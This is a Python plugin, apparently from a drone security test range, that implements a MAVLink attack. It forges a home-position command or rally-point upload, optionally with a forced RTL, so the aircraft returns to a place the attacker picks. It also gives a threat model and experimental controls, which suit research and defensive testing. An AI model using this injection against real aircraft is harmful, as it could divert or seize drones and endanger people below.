"""Home tampering: home or a rally point is moved, so that a return ends at a place of the attacker."""

from __future__ import annotations

from typing import Literal

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, Order, geodetic, inject, mode_order
from skyrange.attack.mavlink.script import Item, Script, Step, Upload
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.params import Enu


class FalseHome(Injection):
    """Where a return is to end."""

    at: Enu = Field(
        description="Place that the aircraft is to return to, [east_m, north_m, up_m] in metres from the origin or the "
        "attack's anchor."
    )
    point: Literal["home", "rally"] = Field(
        default="home", description="What is moved: home, or the rally points, which are replaced by one."
    )
    then_rtl: bool = Field(
        default=False, description="Whether to command RTL too; else the next return, or failsafe, goes there."
    )


def make(params: FalseHome, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    place = geodetic(context.origin, params.at)
    steps: list[Step] = []
    if params.point == "home":
        steps.append(Order(mav.MAV_CMD_DO_SET_HOME, place=place))
    else:
        steps.append(Upload((Item(mav.MAV_CMD_NAV_RALLY_POINT, place),), mav.MAV_MISSION_TYPE_RALLY))
    if params.then_rtl:
        steps.append(mode_order(mav.COPTER_MODE_RTL))
    taps = inject(params, context, Script, context.schedule, tuple(steps))
    return Attack(taps=taps, shown={f"false {params.point}": params.at})


HOME = AttackPlugin(
    FalseHome,
    make,
    "Moves home or the rally points of the aircraft.",
    technique="T0836",
    surface=("gcs", "log", "autopilot"),
    persists="flight",
    effect="a return or a failsafe takes the aircraft to a place of the attacker",
    threat=ThreatModel(
        knowledge="system ids, from any frame",
        position="on the network of the control link, or on board",
        equipment="a computer with a MAVLink library",
        budget="one command, or an upload of one item",
    ),
    controls=Controls(
        load="the sham: the same frames, addressed to a system that is not there",
        content="the same command with the true home",
        placement="the same home for another aircraft",
    ),
)
